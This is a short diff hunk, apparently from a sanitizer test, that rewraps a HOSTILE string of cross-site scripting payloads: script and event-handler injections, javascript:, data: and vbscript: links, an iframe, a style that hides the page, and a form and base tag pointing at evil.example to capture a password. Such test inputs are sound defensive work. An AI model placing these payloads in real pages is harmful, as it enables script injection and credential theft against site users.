@@ -153,7 +153,8 @@ HOSTILE = """
 <script>alert(1)</script><img src=x onerror=alert(2)><svg onload=alert(3)>
 [a](javascript:alert(4)) [b](data:text/html,<script>alert(5)</script>)
 [c](JaVaScRiPt:alert(6)) [d]( vbscript:x)
-![e](x"onerror="alert(7)) <a href="x" onclick="alert(8)">f</a> <iframe src="/"></iframe> <style>body{display:none}</style>
+![e](x"onerror="alert(7)) <a href="x" onclick="alert(8)">f</a>
+<iframe src="/"></iframe> <style>body{display:none}</style>
 <form action="//evil.example"><input name=password></form> <base href="//evil.example"> [g](//evil.example)
 ```<script>
 alert(9)
